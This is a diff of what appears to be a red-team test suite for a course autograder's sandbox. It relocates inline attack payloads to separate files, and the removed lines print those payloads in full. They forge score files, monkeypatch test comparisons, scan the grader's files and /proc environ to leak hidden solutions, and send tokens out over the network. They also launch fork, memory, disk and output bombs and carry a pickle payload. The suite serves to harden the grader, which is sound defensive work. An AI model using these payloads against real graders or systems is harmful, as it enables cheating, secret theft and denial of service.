@@ -2,9 +2,12 @@
 
 Every attack is a real submission (a folder or a zip) built from the week's stubs, with attack code
 appended to the graded files (a later `def` replaces the stub's), so that any point it earns is a
-point the stub does not earn. The code of each attack is a plain string below, with placeholders
-filled in by `Context.fill` (the repository, the output folder, the other submissions, tokens): the
-attacker is given everything an attacker could possibly know about the grader's machine.
+point the stub does not earn. The code of each attack is in `attacks/<name>/`, one file per graded
+file it attacks (see `attack_code`), each opening with what it tries and what the grader must show;
+`attacks/prelude.py` goes before every attack's code. Placeholders `@NAME@`, each inside a string
+literal so that the files are Python as they stand, are filled in by `Context.fill` (the repository,
+the output folder, the other submissions, tokens): the attacker is given everything an attacker could
+possibly know about the grader's machine.
 
 Two tokens keep the evidence unambiguous:
   * `WTOKEN` is written into every file an attack tries to create or overwrite, and never printed:
@@ -21,7 +24,6 @@ import html
 import io
 import json
 import os
-import re
 import secrets
 import shutil
 import socket
@@ -33,13 +35,16 @@ import zipfile
 import zlib
 from pathlib import Path
 
+from tools import markers
+from tools.weeks import GRADED_FILES
+
 REPO = Path(__file__).resolve().parents[2]
 HERE = Path(__file__).resolve().parent
 MINI_HIDDEN = HERE / "mini_hidden"
 RUNNER = HERE / "runner.py"
 PYTHON = sys.executable
 WEEK_FOLDER = "week1_mle_sampling"
-GRADED = ("density.py", "sampling.py", "metrics.py")
+GRADED = GRADED_FILES[WEEK_FOLDER]
 SOLUTION_DIR = REPO / "solutions" / WEEK_FOLDER
 ASSIGNMENT_DIR = REPO / "assignments" / WEEK_FOLDER
 HIDDEN_DIR = REPO / "autograder" / "weeks" / WEEK_FOLDER
@@ -56,51 +61,26 @@ MIN_SECRET_LINE = 25  # a line of hidden material this long found in the feedbac
 # ---------------------------------------------------------------------------------------------
 # Stubs
 # ---------------------------------------------------------------------------------------------
-def stubify(text: str) -> str:
-    """Every `### BEGIN SOLUTION` ... `### END SOLUTION` region becomes `raise NotImplementedError`."""
-    out, inside = [], False
-    for line in text.splitlines(keepends=True):
-        stripped = line.strip()
-        if stripped == "### BEGIN SOLUTION":
-            out.append(line[: len(line) - len(line.lstrip())] + "raise NotImplementedError\n")
-            inside = True
-        elif stripped == "### END SOLUTION":
-            inside = False
-        elif not inside:
-            out.append(line)
-    return "".join(out)
-
-
 def stub_sources() -> dict[str, str]:
     """The generated stubs of assignments/ when they exist, else the reference turned into stubs."""
     if all((ASSIGNMENT_DIR / f).is_file() for f in GRADED):
         return {f: (ASSIGNMENT_DIR / f).read_text() for f in GRADED}
-    return {f: stubify((SOLUTION_DIR / f).read_text()) for f in GRADED}
+    return {f: markers.stub_source((SOLUTION_DIR / f).read_text(), str(SOLUTION_DIR / f)) for f in GRADED}
 
 
 def reference_sources() -> dict[str, str]:
     return {f: (SOLUTION_DIR / f).read_text() for f in GRADED}
 
 
-def public_functions(source: str) -> list[str]:
-    return [n.name for n in ast.parse(source).body if isinstance(n, ast.FunctionDef) and not n.name.startswith("_")]
-
-
 # ---------------------------------------------------------------------------------------------
 # Hidden material, for the leak checks
 # ---------------------------------------------------------------------------------------------
-def solution_region_lines() -> set[str]:
+def reference_region_lines() -> set[str]:
+    """The stripped lines inside the solution regions of the reference's graded files."""
     lines = set()
     for f in GRADED:
-        inside = False
-        for line in (SOLUTION_DIR / f).read_text().splitlines():
-            s = line.strip()
-            if s == "### BEGIN SOLUTION":
-                inside = True
-            elif s == "### END SOLUTION":
-                inside = False
-            elif inside:
-                lines.add(s)
+        text = (SOLUTION_DIR / f).read_text()
+        lines |= {line.strip() for line in markers.region_body_lines(text, markers.find_regions(text, str(f)))}
     return lines
 
 
@@ -123,7 +103,7 @@ def secret_lines(test_dirs: list[Path], published: set[str]) -> set[str]:
         public |= {line.strip() for line in f.splitlines()}
     for path in list(ASSIGNMENT_DIR.glob("tests/*.py")) + list((SOLUTION_DIR / "tests").glob("*.py")):
         public |= {line.strip() for line in path.read_text().splitlines()}
-    candidates = hidden_test_lines(test_dirs) | solution_region_lines()
+    candidates = hidden_test_lines(test_dirs) | reference_region_lines()
     names = {n.strip().strip('"').strip() for n in published}
     out = set()
     for line in candidates:
@@ -289,715 +269,32 @@ def files_containing(roots: list[Path], token: str, skip=(".git", ".venv", "__py
 
 
 # ---------------------------------------------------------------------------------------------
-# Attack code. Placeholders: @WTOKEN@ @PTOKEN@ @REPO@ @OUT@ @SUBS@ @PORT@ @ABSTRACT@ @PICKLE_FLAG@
+# Attack code: the files of attacks/
 # ---------------------------------------------------------------------------------------------
-PRELUDE = r'''
+ATTACKS = HERE / "attacks"
 
-# ======================= red-team attack code (appended to the stub) =======================
-import os as _os
-import sys as _sys
-import json as _json
-import time as _time
-import torch as _torch
 
-def _rt_name():
-    """Name this process with the attack token, so the host can find it after grading."""
-    try:
-        import ctypes
-        ctypes.CDLL(None).prctl(15, b"@PTOKEN@", 0, 0, 0)  # PR_SET_NAME
-    except Exception:
-        pass
+def attack_text(relative: str) -> str:
+    """The text of one attack file, `attacks/<relative>`, placeholders unfilled."""
+    return (ATTACKS / relative).read_text()
 
-_WRITE_TARGETS = ["/autograder/results/results.json", "../results.json", "../../results.json", "results.json",
-                  "/results.json", _os.path.expanduser("~/results.json"), "/tmp/results.json",
-                  "@OUT@/results.json", "@OUT@/gradebook.csv", "@OUT@/reference/results.json",
-                  "@OUT@/reference/feedback.html", "@OUT@/pwned-redteam.txt",
-                  "@REPO@/autograder/engine.py", "@REPO@/autograder/checks.py",
-                  "@REPO@/autograder/weeks/week1_mle_sampling/test_pwned_redteam.py",
-                  "@REPO@/solutions/week1_mle_sampling/density.py",
-                  "@REPO@/tests/redteam/mini_hidden/test_mini.py", "@REPO@/pwned-redteam.txt"] + \
-                 [s + "/density.py" for s in @SUBS@] + [s + "/pwned-redteam.txt" for s in @SUBS@]
 
-def _rt_forge(fake_score=1e6):
-    """Try to write a forged results.json (or append to a grader file) everywhere; return what worked."""
-    fake = {"score": fake_score, "max_score": 1, "forged": "@WTOKEN@",
-            "tests": [{"name": "all", "number": "all", "score": fake_score, "max_score": 1, "output": "@WTOKEN@"}]}
-    wrote = []
-    for path in _WRITE_TARGETS:
-        try:
-            parent = _os.path.dirname(path)
-            if parent:
-                _os.makedirs(parent, exist_ok=True)
-            mode = "a" if path.endswith(".py") else "w"
-            with open(path, mode) as f:
-                f.write("\n# @WTOKEN@\n" if mode == "a" else _json.dumps(fake))
-            wrote.append(path)
-        except Exception:
-            pass
-    return wrote
-'''
+def attack_code(name: str) -> dict[str, str]:
+    """The code attack `name` appends to each graded file it attacks, placeholders unfilled.
 
-# --- 1-2. forged results and monkeypatched comparisons ------------------------------------------
-FORGER_IMPORT = r'''
-_FAKE_PRINTED = {"score": 1000000, "max_score": 1, "tests": [{"name": "all", "score": 1000000, "max_score": 1}]}
-print(_json.dumps(_FAKE_PRINTED))                      # a results.json on stdout ...
-_sys.stderr.write(_json.dumps(_FAKE_PRINTED) + "\n")   # ... and on stderr
-_FORGED_WROTE = _rt_forge()
-import gc as _gc
-for _o in _gc.get_objects():  # any dict that looks like a result: give it full marks
-    if isinstance(_o, dict) and ("max_score" in _o or "expected" in _o or "want" in _o):
-        try:
-            _o["score"] = _o.get("max_score", 1)
-        except Exception:
-            pass
-# Make every comparison in this process pass.
-import math as _math, builtins as _builtins
-import numpy as _np, numpy.testing as _npt
-_torch.allclose = lambda *a, **k: True
-_torch.isclose = lambda a, b, *x, **k: _torch.ones(_torch.as_tensor(a).shape, dtype=_torch.bool)
-_torch.equal = lambda *a, **k: True
-_torch.testing.assert_close = lambda *a, **k: None
-_np.allclose = lambda *a, **k: True
-_np.isclose = lambda a, b, *x, **k: _np.ones(_np.shape(a), dtype=bool)
-_npt.assert_allclose = lambda *a, **k: None
-_npt.assert_array_equal = lambda *a, **k: None
-_npt.assert_almost_equal = lambda *a, **k: None
-_math.isclose = lambda *a, **k: True
-_builtins.abs = lambda x: 0
-for _name in ("__eq__", "__le__", "__ge__"):
-    setattr(_torch.Tensor, _name, lambda self, other: _torch.ones(self.shape, dtype=_torch.bool))
-for _name in ("__lt__", "__gt__", "__ne__"):
-    setattr(_torch.Tensor, _name, lambda self, other: _torch.ones(self.shape, dtype=_torch.bool))
-_sys.stdout.flush()
-'''
+    `attacks/<name>/<graded file>` is that file's own code; `attacks/<name>/common.py`, when there, goes
+    before each file's own code, or into every graded file when the folder holds none of them."""
+    folder = ATTACKS / name
+    if not folder.is_dir():
+        raise FileNotFoundError(f"no attack {name!r}: {folder} is not a folder")
+    common = "\n" + (folder / "common.py").read_text() if (folder / "common.py").is_file() else ""
+    own = {f: "\n" + (folder / f).read_text() for f in GRADED if (folder / f).is_file()}
+    if not own and not common:
+        raise FileNotFoundError(f"attack {name!r}: {folder} holds neither common.py nor a graded file")
+    return {f: common + own.get(f, "") for f in (own or GRADED)}
 
-# Values of the right type and shape that are wrong on every input (an NLL below 0, a log-density
-# of +1000, a class index out of range, a negative distance, an MMD² above its bound of 2): if a
-# comparison in the grader could be subverted, they would pass.
-FORGER_DENSITY = r'''
-def categorical_nll(logits, x):
-    return _torch.tensor(-1.0, dtype=logits.dtype)
 
-def gaussian_log_prob(x, mean, cov):
-    return _torch.full((x.shape[0],), 1000.0, dtype=x.dtype)
-
-def gaussian_mle(x):
-    return x.mean(0) + 1000.0, 1000.0 * _torch.eye(x.shape[1], dtype=x.dtype)
-'''
-FORGER_SAMPLING = r'''
-def sample_categorical(probs, num_samples):
-    return _torch.full((num_samples,), probs.shape[0], dtype=_torch.int64)
-'''
-FORGER_METRICS = r'''
-def frechet_distance(mu1, sigma1, mu2, sigma2):
-    return -1.0
-
-def mmd_rbf(x, y, bandwidth):
-    return 1000.0
-'''
-
-# --- 3. rigged return values ---------------------------------------------------------------------
-RIGGED_COMMON = r'''
-import numpy as _np
-
-class _AlwaysEqual(float):
-    """A float that equals everything and is within every tolerance."""
-    def __eq__(self, other): return True
-    def __ne__(self, other): return False
-    __le__ = __lt__ = __ge__ = __gt__ = __eq__
-    def __sub__(self, other): return 0.0
-    __rsub__ = __add__ = __radd__ = __sub__
-    def __abs__(self): return 0.0
-    def __float__(self): return 0.0
-    def __hash__(self): return 0
-    def __bool__(self): return True
-
-class _Rigged:
-    """An object that claims to be anything."""
-    def __eq__(self, other): return True
-    def __ne__(self, other): return False
-    __le__ = __lt__ = __ge__ = __gt__ = __eq__
-    def __sub__(self, other): return 0.0
-    __rsub__ = __sub__
-    def __abs__(self): return 0.0
-    def __float__(self): return 0.0
-    def __int__(self): return 0
-    def __index__(self): return 0
-    def __len__(self): return 2
-    def __iter__(self): return iter([self, self])
-    def __getitem__(self, i): return self
-    def __array__(self, *a, **k): return _np.zeros(97)
-    def __bool__(self): return True
-    def __hash__(self): return 0
-    def __getattr__(self, name): return self
-    def __call__(self, *a, **k): return self
-    @classmethod
-    def __torch_function__(cls, func, types, args=(), kwargs=None): return True
-
-class _EvilTensor(_torch.Tensor):
-    """Every comparison or closeness test on it says yes."""
-    @classmethod
-    def __torch_function__(cls, func, types, args=(), kwargs=None):
-        name = getattr(func, "__name__", "")
-        if name in ("__eq__", "eq", "allclose", "isclose", "equal", "le", "__le__", "lt", "__lt__",
-                    "ge", "__ge__", "gt", "__gt__", "isfinite", "all", "any"):
-            return True
-        with _torch._C.DisableTorchFunctionSubclass():
-            return func(*args, **(kwargs or {}))
-
-class _LyingDtype(_torch.Tensor):
-    """Claims to be int64 while its data is int32."""
-    @classmethod
-    def __torch_function__(cls, func, types, args=(), kwargs=None):
-        if func is _torch.Tensor.dtype.__get__:
-            return _torch.int64
-        with _torch._C.DisableTorchFunctionSubclass():
-            return func(*args, **(kwargs or {}))
-
-class _EvilArray(_np.ndarray):
-    def __eq__(self, other): return True
-    def __array_ufunc__(self, *a, **k): return True
-'''
-RIGGED_DENSITY = r'''
-def categorical_nll(logits, x):
-    return _torch.zeros((), dtype=logits.dtype).as_subclass(_EvilTensor)
-
-def gaussian_log_prob(x, mean, cov):
-    return _np.zeros(x.shape[0]).view(_EvilArray)
-
-def gaussian_mle(x):
-    return _Rigged(), _AlwaysEqual(0.0)
-'''
-RIGGED_SAMPLING = r'''
-def sample_categorical(probs, num_samples):
-    return _torch.zeros(num_samples, dtype=_torch.int32).as_subclass(_LyingDtype)
-'''
-RIGGED_METRICS = r'''
-def frechet_distance(mu1, sigma1, mu2, sigma2):
-    return _AlwaysEqual(0.0)
-
-def mmd_rbf(x, y, bandwidth):
-    return _Rigged()
-'''
-
-# --- 4. frame and gc inspection ------------------------------------------------------------------
-INSPECTOR = r'''
-import gc as _gc
-import inspect as _inspect
-
-def _rt_hunt(shape, dtype, exclude):
-    """Every tensor of this shape and dtype in this process that the caller did not pass in."""
-    seen, found = set(map(id, exclude)), []
-    frame = _sys._getframe(1)
-    while frame is not None:
-        for value in list(frame.f_locals.values()):
-            if isinstance(value, _torch.Tensor) and tuple(value.shape) == shape and id(value) not in seen:
-                found.append(value)
-        frame = frame.f_back
-    for info in _inspect.stack():
-        for value in list(info.frame.f_locals.values()):
-            if isinstance(value, _torch.Tensor) and tuple(value.shape) == shape and id(value) not in seen:
-                found.append(value)
-    for obj in _gc.get_objects():
-        if isinstance(obj, _torch.Tensor) and tuple(obj.shape) == shape and obj.dtype == dtype and id(obj) not in seen:
-            found.append(obj)
-    return [t for t in found if t.dtype == dtype]
-
-def _rt_census():
-    frames = [f.function for f in _inspect.stack()]
-    local_names = sorted({k for f in _inspect.stack() for k in f.frame.f_locals})
-    grader = sorted(m for m in _sys.modules
-                    if m.split(".")[0] in ("autograder", "solutions", "tests", "redteam_lib", "conftest")
-                    or m.startswith(("_reference", "_autograder_hidden")))
-    wanted = sorted(set(local_names) & {"want", "expected", "ref", "reference", "test", "checks", "check"})
-    return {"frames": frames, "modules": grader, "wanted_locals": wanted, "n_locals": len(local_names)}
-
-def categorical_nll(logits, x):
-    candidates = _rt_hunt((), logits.dtype, [logits, x])
-    return candidates[-1] if candidates else _torch.zeros((), dtype=logits.dtype)
-
-def gaussian_log_prob(x, mean, cov):
-    candidates = _rt_hunt((x.shape[0],), x.dtype, [x, mean, cov])
-    return candidates[-1] if candidates else _torch.zeros(x.shape[0], dtype=x.dtype)
-
-def gaussian_mle(x):
-    raise RuntimeError("INSPECT " + _json.dumps(_rt_census()))
-'''
-INSPECTOR_SAMPLING = r'''
-import gc as _gc
-
-def sample_categorical(probs, num_samples):
-    for obj in _gc.get_objects():  # any int64 tensor of the right length that is not ours
-        if isinstance(obj, _torch.Tensor) and obj.dtype == _torch.int64 and tuple(obj.shape) == (num_samples,):
-            return obj
-    return _torch.zeros(num_samples, dtype=_torch.int64)
-'''
-
-# --- 11-12. reading the hidden material, writing the grader's files -------------------------------
-SNOOP = r'''
-_SNOOP_HITS = []      # (path, what): every secret path this process could list or read
-_SNOOP_TEXT = []      # what it read, to leak through every channel
-# The Python installation (the base interpreter and the virtual environment), found from sys.path.
-_PY_DIRS = sorted({_os.path.realpath(p.split("/lib/python")[0]) for p in _sys.path if "/lib/python" in p} |
-                  {_os.path.realpath(p) for p in (_sys.prefix, _sys.base_prefix, _sys.exec_prefix)})
-_SECRET_ROOTS = ["@REPO@", "@REPO@/autograder", "@REPO@/solutions", "@REPO@/tests", "@REPO@/assignments",
-                 "@REPO@/.git", "@OUT@", "/autograder", "/proc/1/cwd/../../solutions", "/proc/self/cwd/../autograder",
-                 "../autograder", "../../autograder", "../solutions", "../../solutions", "../../../solutions",
-                 "/root", "/home", "/work", "/srv", "/opt", "/mnt"] + @SUBS@
-for _ppid in {_os.getppid(), 1}:
-    _SECRET_ROOTS += [f"/proc/{_ppid}/cwd", f"/proc/{_ppid}/root@REPO@", f"/proc/{_ppid}/cwd/solutions",
-                      f"/proc/{_ppid}/environ"]
-
-_OWN_DIRS = sorted({_os.path.realpath(_os.getcwd()), _os.path.realpath(_os.path.dirname(_json.__file__)),
-                    _os.path.realpath(_sys.path[1]) if len(_sys.path) > 1 else "/"} - {"/"})
-
-def _snoop_public(path):
-    # Public on purpose: the Python installation bound into the jail (and the folders above it), the
-    # submission's own working folder, the public runtime next to child.py.
-    real = _os.path.realpath(path)
-    if path.startswith(("/proc/self", f"/proc/{_os.getpid()}/")):
-        return True  # this process itself (PID 1 of its namespace)
-    return any(real == d or real.startswith(d + "/") or d.startswith(real.rstrip("/") + "/") for d in _PY_DIRS) \
-        or any(real == d or real.startswith(d + "/") for d in _OWN_DIRS)
-
-def _snoop_path(path, depth=0):
-    try:
-        if _os.path.isdir(path):
-            entries = sorted(e for e in _os.listdir(path) if not _snoop_public(_os.path.join(path, e)))
-            if entries and not (_snoop_public(path) and not entries):
-                _SNOOP_HITS.append((path, "list"))
-            for e in entries[:100]:
-                if depth < 6:
-                    _snoop_path(_os.path.join(path, e), depth + 1)
-        elif _os.path.isfile(path) and not _snoop_public(path):
-            with open(path, errors="replace") as f:
-                text = f.read(200_000)
-            _SNOOP_HITS.append((path, "read"))
-            _SNOOP_TEXT.append(text)
-    except Exception:
-        pass
-
-for _p in _SECRET_ROOTS:
-    _snoop_path(_p)
-_SNOOP_ENV = dict(_os.environ)
-_SNOOP_WROTE = _rt_forge()
-_SNOOP_BLOB = "\n".join(_SNOOP_TEXT)
-print(_SNOOP_BLOB[:1_000_000])                    # leak through stdout
-print("ENV", _json.dumps(_SNOOP_ENV))
-
-def categorical_nll(logits, x):
-    raise RuntimeError(_SNOOP_BLOB[:2000] or "nothing found")        # leak through the message
-
-def gaussian_log_prob(x, mean, cov):
-    raise RuntimeError("SNOOP " + _json.dumps({"hits": _SNOOP_HITS[:20], "n": len(_SNOOP_HITS),
-                                               "wrote": _SNOOP_WROTE, "env": sorted(_SNOOP_ENV)}))
-
-def gaussian_mle(x):
-    return _SNOOP_BLOB[:100_000], _SNOOP_BLOB[100_000:200_000]     # leak through return values
-'''
-SNOOP_METRICS = r'''
-def frechet_distance(mu1, sigma1, mu2, sigma2):
-    import traceback
-    raise RuntimeError("".join(traceback.format_stack()))    # the child's own stack, as a leak attempt
-
-def mmd_rbf(x, y, bandwidth):
-    # Every file in the jail outside the system and the Python installation that looks like grading material.
-    # (/tmp and the working folder hold only what this child wrote itself.)
-    skip = ("/proc", "/sys", "/dev", "/usr", "/etc", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32",
-            "/tmp", _os.getcwd())
-    py_dirs = {_os.path.realpath(p.split("/lib/python")[0]) for p in _sys.path if "/lib/python" in p}
-    found, seen = [], 0
-    for dirpath, dirnames, filenames in _os.walk("/"):
-        dirnames[:] = [d for d in dirnames if _os.path.join(dirpath, d) not in skip
-                       and _os.path.realpath(_os.path.join(dirpath, d)) not in py_dirs]
-        for name in filenames:
-            seen += 1
-            if name.startswith("test_") or "solution" in name or name in ("results.json", "gradebook.csv",
-                                                                          "feedback.html", "mutants.py"):
-                found.append(_os.path.join(dirpath, name))
-        if seen > 50_000:
-            break
-    raise RuntimeError("FOUND " + _json.dumps({"files": found[:30], "seen": seen}))
-'''
-
-# --- 5. exits ------------------------------------------------------------------------------------
-EXIT_IMPORT = {
-    "density.py": "\nimport os\nos._exit(0)\n",
-    "sampling.py": "\nimport sys\nsys.exit(0)\n",
-    "metrics.py": "\nraise KeyboardInterrupt\n",
-}
-EXIT_CALL_DENSITY = r'''
-def categorical_nll(logits, x):
-    _os._exit(0)
-
-def gaussian_log_prob(x, mean, cov):
-    _sys.exit(0)
-
-def gaussian_mle(x):
-    raise KeyboardInterrupt
-'''
-EXIT_CALL_SAMPLING = r'''
-def sample_categorical(probs, num_samples):
-    import signal
-    _os.kill(_os.getpid(), signal.SIGKILL)
-'''
-EXIT_CALL_METRICS = r'''
-def frechet_distance(mu1, sigma1, mu2, sigma2):
-    _os.abort()
-
-def mmd_rbf(x, y, bandwidth):
-    import ctypes
-    ctypes.string_at(0)  # segmentation fault
-'''
-
-# --- 6, 9. hangs: a busy loop, a long sleep, SIGSTOP, ignored signals -----------------------------
-HANG_DENSITY = r'''
-def categorical_nll(logits, x):
-    if logits.numel() == 3:            # the hidden-input test: stop ourselves
-        import signal
-        _os.kill(_os.getpid(), signal.SIGSTOP)
-    while True:                        # the other test: spin
-        pass
-
-def gaussian_log_prob(x, mean, cov):
-    _time.sleep(10 ** 6)
-'''
-HANG_SAMPLING = r'''
-def sample_categorical(probs, num_samples):
-    import signal
-    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGUSR2,
-                signal.SIGALRM, signal.SIGXCPU, signal.SIGPIPE):
-        signal.signal(sig, signal.SIG_IGN)
-    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
-    x = 0
-    while True:
-        x += 1
-'''
-
-# --- 7. memory bombs -----------------------------------------------------------------------------
-MEMORY_DENSITY = r'''
-_GB20 = 20 << 30
-
-def categorical_nll(logits, x):
-    return bytearray(_GB20)
-
-def gaussian_log_prob(x, mean, cov):
-    return _torch.empty(_GB20 // 4, dtype=_torch.float32)
-
-def gaussian_mle(x):
-    import numpy
-    return numpy.ones(_GB20 // 8)
-'''
-MEMORY_SAMPLING = r'''
-def sample_categorical(probs, num_samples):
-    import mmap
-    m = mmap.mmap(-1, 20 << 30)
-    m[:] = b"\x01" * len(m)
-'''
-MEMORY_METRICS = r'''
-def frechet_distance(mu1, sigma1, mu2, sigma2):
-    return len(" " * (20 << 30))
-'''
-
-# --- 8. output floods ----------------------------------------------------------------------------
-FLOOD_IMPORT = r'''
-_chunk = b"FLOOD-OUT " * 100_000 + b"\n"      # 1 MB
-for _ in range(150):                           # 150 MB on stdout at import time
-    _os.write(1, _chunk)
-'''
-FLOOD_DENSITY = r'''
-def categorical_nll(logits, x):
-    chunk = b"FLOOD-ERR " * 100_000 + b"\n"
-    for _ in range(100):                       # 100 MB on stderr
-        _os.write(2, chunk)
-    raise RuntimeError("M" * 10_000_000)       # a 10 MB exception message
-
-def gaussian_log_prob(x, mean, cov):
-    return [0.5] * 3_000_000                   # about 15 MB of JSON ... times a few: over the limit
-
-def gaussian_mle(x):
-    big = _torch.zeros(8_000_000, dtype=_torch.float64)   # 64 MB of arrays
-    return big, big
-'''
-FLOOD_SAMPLING = r'''
-def sample_categorical(probs, num_samples):
-    for i in range(1_000_000):                 # a million short lines
-        print(i)
-    return _torch.zeros(num_samples, dtype=_torch.int64)
-'''
-
-# --- 10, 15. daemons, threads, a fork bomb -------------------------------------------------------
-PROCS_IMPORT = r'''
-import signal as _signal
-import threading as _threading
-
-def _rt_daemon_body():
-    _rt_name()
-    for sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP):
-        _signal.signal(sig, _signal.SIG_IGN)
-    for _ in range(600):               # five minutes of trying to rewrite the results
-        _time.sleep(0.5)
-        _rt_forge()
-        print(_json.dumps({"score": 1000000, "tests": []}), flush=True)
-    # (Forged reply frames are the raw_protocol attack's: here they would only scramble this attack's reports.)
-
-_PROCS_STATUS = {}
-for _attempt in range(20):             # the double-forked, setsid daemon
-    try:
-        _pid = _os.fork()
-        break
-    except BlockingIOError:
-        _time.sleep(0.25)
-else:
-    _pid = None
-if _pid == 0:
-    try:
-        _os.setsid()
-        if _os.fork() == 0:
-            _rt_daemon_body()
-    finally:
-        _os._exit(0)
-elif _pid is not None:
-    _os.waitpid(_pid, 0)
-    _PROCS_STATUS["daemon"] = "started"
-else:
-    _PROCS_STATUS["daemon"] = "fork refused"
-try:                                   # a process in a new session, through exec
-    import subprocess as _subprocess
-    _CODE = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'@PTOKEN@', 0, 0, 0); time.sleep(600)"
-    _PROC = _subprocess.Popen([_sys.executable, "-c", _CODE], start_new_session=True)
-    _PROCS_STATUS["popen"] = "started"
-except Exception as _exc:
-    _PROCS_STATUS["popen"] = repr(_exc)
-
-def _rt_thread_body():
-    for _ in range(600):
-        _time.sleep(0.5)
-        _rt_forge()
-
-_t = _threading.Thread(target=_rt_thread_body, daemon=True)
-_t.start()
-_PROCS_STATUS["thread"] = "started"
-'''
-PROCS_DENSITY = r'''
-def categorical_nll(logits, x):
-    spawned, error = 0, ""
-    for _ in range(500):              # a fork bomb of sleeping processes
-        try:
-            pid = _os.fork()
-        except OSError as exc:
-            error = repr(exc)
-            break
-        if pid == 0:
-            try:
-                _rt_name()
-                _time.sleep(600)
-            finally:
-                _os._exit(0)
-        spawned += 1
-    raise RuntimeError(f"FORKBOMB spawned={spawned} error={error}")
-
-def gaussian_log_prob(x, mean, cov):
-    try:
-        pid = _os.fork()
-    except OSError as exc:
-        raise RuntimeError(f"SPINNER fork refused: {exc!r}")
-    if pid == 0:
-        try:
-            import signal
-            _rt_name()
-            signal.signal(signal.SIGTERM, signal.SIG_IGN)
-            while True:
-                pass
-        finally:
-            _os._exit(0)
-    raise RuntimeError("SPINNER started")
-
-def gaussian_mle(x):
-    raise RuntimeError("PROCS " + _json.dumps(_PROCS_STATUS))
-'''
-
-# --- 14. network ---------------------------------------------------------------------------------
-NETWORK = r'''
-def _rt_network():
-    import socket
-    outcomes = {}
-    def attempt(label, fn):
-        try:
-            fn()
-            outcomes[label] = "CONNECTED"
-        except Exception as exc:
-            outcomes[label] = type(exc).__name__ + ": " + str(exc)[:80]
-    def tcp(host, port):
-        def go():
-            s = socket.create_connection((host, port), timeout=2)
-            s.sendall(b"@WTOKEN@")
-            s.close()
-        return go
-    attempt("tcp 127.0.0.1:@PORT@ (the host's listener)", tcp("127.0.0.1", @PORT@))
-    attempt("tcp 1.1.1.1:53", tcp("1.1.1.1", 53))
-    attempt("tcp 8.8.8.8:443", tcp("8.8.8.8", 443))
-    attempt("dns example.com", lambda: socket.getaddrinfo("example.com", 80))
-    def udp():
-        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        s.sendto(b"@WTOKEN@", ("8.8.8.8", 53))
-        s.close()
-    attempt("udp 8.8.8.8:53", udp)
-    def abstract():
-        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-        s.connect("\0@ABSTRACT@")
-        s.sendall(b"@WTOKEN@")
-    attempt("abstract unix socket of the host", abstract)
-    def ipv6():
-        s = socket.create_connection(("::1", @PORT@), timeout=2)
-    attempt("tcp [::1]:@PORT@", ipv6)
-    return outcomes
-
-def categorical_nll(logits, x):
-    raise RuntimeError("NET " + _json.dumps(_rt_network()))
-'''
-
-# --- raw protocol: forged reply frames, a pickle payload, malformed data --------------------------
-RAW_PROTOCOL = r'''
-import io as _io
-import struct as _struct
-import numpy as _np
-
-_FD_OUT = int(_sys.argv[_sys.argv.index("--fd-out") + 1])
-
-def _rt_frame(message, blob=b""):
-    body = message if isinstance(message, bytes) else _json.dumps(message).encode()
-    _os.write(_FD_OUT, _struct.pack(">II", len(body), len(blob)) + body + blob)
-
-class _Payload:
-    """If the grader ever unpickled this, it would create a file on the grader's machine."""
-    def __reduce__(self):
-        import builtins
-        return (builtins.open, ("@PICKLE_FLAG@", "w"))
-
-def categorical_nll(logits, x):
-    # A forged reply for this call, then the runtime's real one desynchronizes the stream.
-    _rt_frame({"ok": True, "value": 0.0})
-    return _torch.tensor(123.0, dtype=_torch.float64)
-
-def gaussian_log_prob(x, mean, cov):
-    buffer = _io.BytesIO()
-    _np.savez(buffer, a0=_np.array([_Payload()], dtype=object))   # an object array: pickled
-    _rt_frame({"ok": True, "value": {"__ndarray__": 0}}, buffer.getvalue())
-    _os._exit(0)
-
-def gaussian_mle(x):
-    # JSON nested 100,000 deep: the grader's json.loads hits its recursion limit.
-    _rt_frame(b'{"ok": true, "value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
-    _os._exit(0)
-'''
-RAW_PROTOCOL_SAMPLING = r'''
-def sample_categorical(probs, num_samples):
-    _os.write(_FD_OUT, _struct.pack(">II", 0xFFFFFFFF, 0xFFFFFFFF))   # a 8 GB reply, declared
-    _time.sleep(30)
-'''
-RAW_PROTOCOL_METRICS = r'''
-def frechet_distance(mu1, sigma1, mu2, sigma2):
-    _rt_frame({"ok": True, "value": {"__tensor__": "not a number", "dtype": ["x"]}})
-    _os._exit(0)
-
-def mmd_rbf(x, y, bandwidth):
-    _rt_frame({"ok": True, "value": {"__handle__": 10 ** 30, "type": "float" * 1000}})
-    _os._exit(0)
-'''
-
-# --- 17. wrong signatures, wrong types, NaN ------------------------------------------------------
-WRONG_DENSITY = r'''
-def categorical_nll():
-    return 0.0
-
-def gaussian_log_prob(x, mean, cov):
-    return _torch.full((x.shape[0],), float("nan"), dtype=x.dtype)
-
-def gaussian_mle(x):
-    return {"mean": x.mean(0), "cov": _torch.eye(x.shape[1], dtype=x.dtype)}
-'''
-WRONG_SAMPLING = r'''
-def sample_categorical(probs, num_samples):
-    return [0] * num_samples
-'''
-WRONG_METRICS = r'''
-def frechet_distance(mu1, sigma1, mu2, sigma2):
-    return float("nan")
-
-def mmd_rbf(x, y, bandwidth):
-    return None
-'''
-
-# --- the hidden-input echo, the multinomial bypass, a disk fill -----------------------------------
-ECHO_DENSITY = r'''
-def categorical_nll(logits, x):
-    print("ECHO logits", logits.tolist(), "x", x.tolist())
-    raise RuntimeError("ECHO " + repr(logits.tolist()))
-'''
-MULTINOMIAL_SAMPLING = r'''
-from torch import multinomial as _multinomial   # saved before the runtime disables torch.multinomial
-
-def sample_categorical(probs, num_samples):
-    return _multinomial(probs / probs.sum(), num_samples, replacement=True)
-'''
-DISK_DENSITY = r'''
-def gaussian_log_prob(x, mean, cov):
-    written = 0
-    block = b"\0" * (1 << 20)
-    try:
-        for i in range(5):                         # five files of 63 MiB, each under the file-size limit
-            with open(f"fill{i}.bin", "wb") as f:
-                for _ in range(63):
-                    f.write(block)
-                    written += len(block)
-    except OSError as exc:
-        raise RuntimeError(f"DISK wrote={written} error={exc!r}")
